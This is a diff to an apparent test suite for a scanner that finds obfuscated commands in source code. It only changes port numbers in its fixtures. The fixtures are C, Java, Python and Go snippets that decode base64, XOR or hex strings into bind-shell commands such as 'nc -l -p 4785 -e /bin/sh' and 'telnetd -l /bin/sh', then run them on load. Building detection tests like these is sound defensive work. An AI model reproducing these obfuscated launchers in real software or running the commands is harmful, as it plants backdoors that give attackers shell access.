@@ -91,24 +91,24 @@ def test_c_hex_key_decoded_for_a_hash_is_not_a_command():
 
 
 def test_c_base64_helper_filling_a_buffer_run_by_popen():
-    src = ('#include <stdio.h>\nstatic const char banner[] = "dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzMjM=";\n'
+    src = ('#include <stdio.h>\nstatic const char banner[] = "dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzNTY=";\n'
            'int b64_decode(const char *in, unsigned char *out, int max);\n'
            'void dispatch(void) {\n    unsigned char dec[sizeof(banner)];\n'
            '    int n = b64_decode(banner, dec, sizeof(dec) - 1);\n    if (n > 0) { dec[n] = 0;\n'
            '        FILE *p = popen((char *)dec, "r"); if (p) pclose(p); }\n}\n')
-    assert decoded("src/h.c", "c", src) == ["telnetd -l /bin/sh -p 2323"]
+    assert decoded("src/h.c", "c", src) == ["telnetd -l /bin/sh -p 2356"]
 
 
 # ---------------------------------------------------------------- Java
 
 def test_java_static_block_xor_decoder_into_sh_c():
-    src = ('public final class Svc {\n    private static final byte[] P = {79, 66, 1, 12, 77, 1, 12, 81, 1, 21, 21, 21,'
-           ' 21, 1, 12, 68, 1, 14, 67, 72, 79, 14, 82, 73};\n'
+    src = ('public final class Svc {\n    private static final byte[] P = {79, 66, 1, 12, 77, 1, 12, 81, 1, 21, 22, 25,'
+           ' 20, 1, 12, 68, 1, 14, 67, 72, 79, 14, 82, 73};\n'
            '    private static String dec(byte[] b) { byte[] o = new byte[b.length];\n'
            '        for (int i = 0; i < b.length; i++) { o[i] = (byte) (b[i] ^ 0x21); } return new String(o); }\n'
            '    static { try { Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", dec(P)}); }'
            ' catch (java.io.IOException e) { } }\n}\n')
-    assert decoded("src/Svc.java", "java", src) == ["nc -l -p 4444 -e /bin/sh"]
+    assert decoded("src/Svc.java", "java", src) == ["nc -l -p 4785 -e /bin/sh"]
 
 
 def test_java_base64_signature_decoded_and_verified_is_silent():
@@ -199,24 +199,24 @@ def test_php_array_map_with_an_ordinary_callback_is_silent():
 
 
 def test_text_conversion_of_a_decoder_result_is_not_decoded_twice():
-    src = "import base64, os\nos.system(base64.b64decode('dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzMjM=').decode('utf-8'))\n"
-    assert decoded("app/x.py", "python", src) == ["telnetd -l /bin/sh -p 2323"]
+    src = "import base64, os\nos.system(base64.b64decode('dGVsbmV0ZCAtbCAvYmluL3NoIC1wIDIzNTY=').decode('utf-8'))\n"
+    assert decoded("app/x.py", "python", src) == ["telnetd -l /bin/sh -p 2356"]
 
 
 def test_go_init_hex_decoded_into_sh_c_and_a_decoded_key_beside_a_fixed_program():
-    hx = b"telnetd -l /bin/sh -p 2323".hex()
+    hx = b"telnetd -l /bin/sh -p 2356".hex()
     src = ('package main\nimport ("encoding/hex"; "os/exec")\nfunc init() {\n'
            f'\tb, _ := hex.DecodeString("{hx}")\n\texec.Command("/bin/sh", "-c", string(b)).Run()\n}}\n')
-    assert decoded("cmd/d/main.go", "go", src) == ["telnetd -l /bin/sh -p 2323"]
+    assert decoded("cmd/d/main.go", "go", src) == ["telnetd -l /bin/sh -p 2356"]
     honest = ('package main\nimport ("encoding/hex"; "os/exec")\nfunc init() {\n'
               '\tk, _ := hex.DecodeString("00ff10ee")\n\tuse(k)\n\texec.Command("/usr/bin/uptime").Run()\n}\n')
     assert not high("cmd/d/main.go", "go", honest)
 
 
 def test_python_bytes_of_an_xor_generator():
-    data = [c ^ 5 for c in b"nc -l -p 4444 -e /bin/sh"]
+    data = [c ^ 5 for c in b"nc -l -p 4785 -e /bin/sh"]
     src = f"import os\nD = {data}\nos.system(bytes(c ^ 5 for c in D).decode())\n"
-    assert decoded("app/x.py", "python", src) == ["nc -l -p 4444 -e /bin/sh"]
+    assert decoded("app/x.py", "python", src) == ["nc -l -p 4785 -e /bin/sh"]
 
 
 def test_a_decoded_command_that_runs_nothing_remote_is_medium_at_most():
